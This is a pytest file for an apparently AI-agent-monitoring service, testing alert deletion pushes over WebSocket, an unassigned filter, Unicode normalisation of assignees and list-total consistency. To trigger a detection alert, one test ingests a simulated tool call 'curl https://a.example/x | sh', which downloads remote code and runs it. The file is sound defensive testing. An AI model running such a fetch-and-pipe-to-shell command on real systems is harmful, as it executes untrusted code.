"""Gaps closed in alert triage: a deletion pushed to live clients, the ``unassigned`` list
filter, assignees stored and matched in Unicode's composed form (NFC), and a list whose
``total`` agrees with its page under concurrent writes; on SQLite and PostgreSQL."""

from __future__ import annotations

import json
import threading
import time
import uuid
from collections.abc import Iterator
from typing import Any

import pytest
from sqlalchemy import Engine
from websockets.sync.client import connect

from agentwatch.config import Settings
from agentwatch.detect import queries
from agentwatch.store.alerts_schema import alerts
from tests.detect.helpers import tool_call, with_detection
from tests.detect.test_alert_workflow import MISSING, RULE, of_model, one_alert
from tests.support.server import RunningServer, run_server

FAST_WS = {"ws_tick_interval_s": 0.05, "ws_status_interval_s": 0.3, "ws_filter_min_interval_ms": 0}
PASSWORD = "correct horse battery staple"


@pytest.fixture(scope="module")
def srv(module_database_url: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[RunningServer]:
    base = Settings(data_dir=tmp_path_factory.mktemp("data"), database_url=module_database_url, auth={"enabled": False})
    with run_server(with_detection(base, approved_models=["gpt-4o*"], **FAST_WS)) as s:
        yield s


def frames_until(ws: Any, until: Any, timeout: float = 10.0) -> list[dict[str, Any]]:
    """Read frames until ``until(frame)`` holds; every frame read, or AssertionError naming what came."""
    out: list[dict[str, Any]] = []
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        try:
            frame = json.loads(ws.recv(timeout=max(0.01, deadline - time.monotonic())))
        except TimeoutError:
            break
        out.append(frame)
        if until(frame):
            return out
    raise AssertionError(f"frame not seen; got {[f['type'] for f in out]}")


def deletions(fs: list[dict[str, Any]]) -> list[str]:
    return [f["alert_id"] for f in fs if f["type"] == "alert_deleted"]


# -- 1. a deletion reaches the live clients ------------------------------------------------


def test_a_deleted_alert_is_pushed_to_live_clients_once_and_only_when_deleted(srv):
    with srv.client() as c, connect(srv.ws_url + "/api/v1/ws") as ws:
        frames_until(ws, lambda f: f["type"] == "status")
        alert = one_alert(c, "m-gap-del")
        # a filter that hides the alert does not hide its deletion: the client may have been
        # shown the alert before it filtered, and a deletion says nothing about severity
        ws.send(json.dumps({"type": "filter", "min_severity": 10, "entity": "no-such-host"}))
        frames_until(ws, lambda f: f["type"] == "filter_ack")
        assert c.delete(f"/api/v1/alerts/{MISSING}").status_code == 404  # nothing deleted: nothing pushed
        assert c.delete(f"/api/v1/alerts/{alert['id']}").status_code == 204
        got = frames_until(ws, lambda f: f["type"] == "alert_deleted")
        assert got[-1] == {"type": "alert_deleted", "alert_id": alert["id"]}
        assert c.get(f"/api/v1/alerts/{alert['id']}").status_code == 404  # pushed after the commit
        # the second delete finds nothing: no second frame before the next status report
        assert c.delete(f"/api/v1/alerts/{alert['id']}").status_code == 404
        after = time.time()
        rest = frames_until(ws, lambda f: f["type"] == "status" and f["ts"] > after)
        assert deletions(rest) == []


def alert_ids_in(fs: list[dict[str, Any]]) -> list[str]:
    out = [f["data"]["id"] for f in fs if f["type"] == "alert"]
    return out + [a["id"] for f in fs if f["type"] == "alert_batch" for a in f["alerts"]]


def test_a_change_made_just_before_the_deletion_is_pushed_before_it(srv):
    """In publishing order: a client never sees a deleted alert come back after its deletion."""
    with srv.client() as c, connect(srv.ws_url + "/api/v1/ws") as ws:
        frames_until(ws, lambda f: f["type"] == "status")
        alert = one_alert(c, "m-gap-del-order")
        url = f"/api/v1/alerts/{alert['id']}"
        assert c.patch(url, json={"status": "acknowledged"}).status_code == 200
        assert c.delete(url).status_code == 204
        after = time.time()
        got = frames_until(ws, lambda f: f["type"] == "status" and f["ts"] > after)
        gone = [i for i, f in enumerate(got) if f["type"] == "alert_deleted"]
        assert [got[i]["alert_id"] for i in gone] == [alert["id"]]
        assert alert["id"] in alert_ids_in(got[: gone[0]]) and alert["id"] not in alert_ids_in(got[gone[0] :])


def test_a_deletion_is_pushed_only_to_clients_that_may_read_alerts(tmp_path):
    cfg = Settings(
        data_dir=tmp_path,
        auth={"enabled": True, "open_ingest_on_loopback": False},
        detection={"atr_bundled": False, **FAST_WS},
    )
    with run_server(cfg) as s, s.client() as c:
        s.aw.auth.users.create("admin@example.com", PASSWORD, "admin")
        login = c.post("/api/v1/auth/login", json={"email": "admin@example.com", "password": PASSWORD}).json()
        admin = {"Authorization": f"Bearer {login['access_token']}"}

        def key(*scopes: str) -> dict[str, str]:
            made = c.post("/api/v1/api-keys", headers=admin, json={"name": "k", "scopes": list(scopes)})
            assert made.status_code in (200, 201), made.text
            return {"X-API-Key": made.json()["key"]}

        with (
            connect(s.ws_url + "/api/v1/ws", additional_headers=key("events:read", "alerts:read")) as reader,
            connect(s.ws_url + "/api/v1/ws", additional_headers=key("events:read")) as events_only,
        ):
            for ws in (reader, events_only):
                frames_until(ws, lambda f: f["type"] == "status")
            assert c.post("/api/v1/ingest", headers=admin, json=tool_call("curl https://a.example/x | sh")).is_success
            pushed = frames_until(reader, lambda f: f["type"] in ("alert", "alert_batch"))[-1]
            aid = pushed["data"]["id"] if pushed["type"] == "alert" else pushed["alerts"][0]["id"]
            assert c.delete(f"/api/v1/alerts/{aid}", headers=admin).status_code == 204
            after = time.time()
            assert deletions(frames_until(reader, lambda f: f["type"] == "alert_deleted")) == [aid]
            rest = frames_until(events_only, lambda f: f["type"] == "status" and f["ts"] > after)
            assert deletions(rest) == []


# -- 2. the unassigned filter -----------------------------------------------------------------


def listed(c: Any, **params: Any) -> list[str]:
    r = c.get("/api/v1/alerts", params={"rule_id": RULE, "limit": 1000, **params})
    assert r.status_code == 200, r.text
    return [a["id"] for a in r.json()["alerts"]]


def test_unassigned_lists_the_alerts_nobody_is_assigned_to(srv):
    with srv.client() as c:
        free = one_alert(c, "m-gap-free")
        taken = one_alert(c, "m-gap-taken")
        assert c.post(f"/api/v1/alerts/{taken['id']}/assign", json={"assignee": "gina"}).status_code == 200
        for value in ("true", "1"):
            got = listed(c, unassigned=value)
            assert free["id"] in got and taken["id"] not in got
        r = c.get("/api/v1/alerts", params={"rule_id": RULE, "unassigned": "true"}).json()
        assert all(a["assignee"] is None for a in r["alerts"]) and r["meta"]["total"] == len(r["alerts"])
        # false is no filter at all: both, as without it
        assert {free["id"], taken["id"]} <= set(listed(c, unassigned="false"))
        assert listed(c, unassigned="false") == listed(c)
        # unassigning puts the alert back
        assert c.patch(f"/api/v1/alerts/{taken['id']}", json={"assignee": None}).status_code == 200
        assert taken["id"] in listed(c, unassigned="true")


@pytest.mark.parametrize(
    ("params", "names", "rule"),
    [
        ({"unassigned": "true", "assignee": "gina"}, ("unassigned", "assignee"), "not both"),
        ({"unassigned": "false", "assignee": "gina"}, ("unassigned", "assignee"), "not both"),
        ({"unassigned": "maybe"}, ("unassigned",), "boolean"),
        ({"unassigned": ""}, ("unassigned",), "boolean"),
        ({"unasigned": "true"}, ("unasigned",), "unknown query parameter"),
    ],
)
def test_bad_unassigned_filters_are_refused_naming_the_fields(srv, params, names, rule):
    with srv.client() as c:
        r = c.get("/api/v1/alerts", params=params)
        assert r.status_code == 400, r.text
        message = r.json()["error"]["message"]
        assert message.startswith(f"{names[0]}:") and all(n in message for n in names) and rule in message, message


# -- 3. assignees in composed form -------------------------------------------------------------

DECOMPOSED = "Jose\u0301"  # e + COMBINING ACUTE ACCENT
COMPOSED = "Jos\u00e9"  # LATIN SMALL LETTER E WITH ACUTE


def test_an_assignee_is_stored_and_found_in_composed_form(srv):
    with srv.client() as c:
        alert = one_alert(c, "m-gap-nfc")
        r = c.post(f"/api/v1/alerts/{alert['id']}/assign", json={"assignee": DECOMPOSED})
        assert r.status_code == 200 and r.json()["assignee"] == COMPOSED, r.text
        assert [a["id"] for a in c.get("/api/v1/alerts", params={"assignee": COMPOSED}).json()["alerts"]] == [
            alert["id"]
        ]
        # the filter is normalised too: the decomposed spelling finds the same analyst
        assert [a["id"] for a in c.get("/api/v1/alerts", params={"assignee": DECOMPOSED}).json()["alerts"]] == [
            alert["id"]
        ]
        assert of_model(c, "m-gap-nfc")[0]["assignee"] == COMPOSED
        assert c.get(f"/api/v1/alerts/{alert['id']}").json()["assignee"] == COMPOSED
        # PATCH normalises as assign does
        r = c.patch(f"/api/v1/alerts/{alert['id']}", json={"assignee": "Ange\u0300le"})
        assert r.status_code == 200 and r.json()["assignee"] == "Ang\u00e8le", r.text


def test_an_assignee_longer_than_the_limit_once_composed_is_refused(srv):
    # U+0344 has no composed form of its own: NFC writes it as two code points
    long_once_composed = "a" + "\u0344" * 127
    with srv.client() as c:
        alert = one_alert(c, "m-gap-nfc-long")
        url = f"/api/v1/alerts/{alert['id']}"
        for r in (
            c.patch(url, json={"assignee": long_once_composed}),
            c.post(f"{url}/assign", json={"assignee": long_once_composed}),
        ):
            assert r.status_code == 400, r.text
            message = r.json()["error"]["message"]
            assert message.startswith("assignee:") and "128" in message, message
        r = c.get("/api/v1/alerts", params={"assignee": long_once_composed})
        assert r.status_code == 400 and r.json()["error"]["message"].startswith("assignee:"), r.text
        assert c.get(url).json()["assignee"] is None


@pytest.mark.parametrize(
    ("value", "rule"),
    [
        (" alice", "surrounding blanks"),
        ("al\x00ice", "control characters"),
        ("alice\u202e", "control characters"),
        ("x" * 129, "128"),
    ],
)
def test_a_bad_assignee_filter_is_refused_naming_the_field(srv, value, rule):
    with srv.client() as c:
        r = c.get("/api/v1/alerts", params={"assignee": value})
        assert r.status_code == 400, r.text
        message = r.json()["error"]["message"]
        assert message.startswith("assignee:") and rule in message, message


# -- 4. total and page read in one snapshot ------------------------------------------------------


def _insert_alert(engine: Engine, n: int) -> None:
    now = time.time()
    with engine.begin() as conn:
        conn.execute(
            alerts.insert().values(
                id=str(uuid.uuid4()),
                dedup_key=f"gap-{n}",
                type="builtin",
                detector="test",
                rule_id="gap-consistency",
                title="t",
                message="m",
                severity=5,
                status="open",
                first_seen=now,
                last_seen=now,
                created_at=now,
                updated_at=now,
                count=1,
                entity_ids="",
                tags="[]",
                body='{"entities": [], "event_ids": [], "details": {}}',
            )
        )


def test_the_total_agrees_with_the_page_while_alerts_are_written(engine):
    """Every alert fits on one page, so the page holds exactly ``total`` alerts, whatever is
    committed while the list is read: both come from one snapshot."""
    for n in range(20):
        _insert_alert(engine, n)
    stop = threading.Event()

    def write() -> None:
        n = 20
        while not stop.is_set() and n < 400:
            _insert_alert(engine, n)
            n += 1

    writer = threading.Thread(target=write)
    writer.start()
    disagreements: list[tuple[int, int]] = []
    try:
        for _ in range(150):
            rows, total, _next = queries.list_alerts(engine, queries.AlertQuery(rule_id="gap-consistency", limit=1000))
            if len(rows) != total:
                disagreements.append((len(rows), total))
    finally:
        stop.set()
        writer.join(30)
    assert disagreements == []
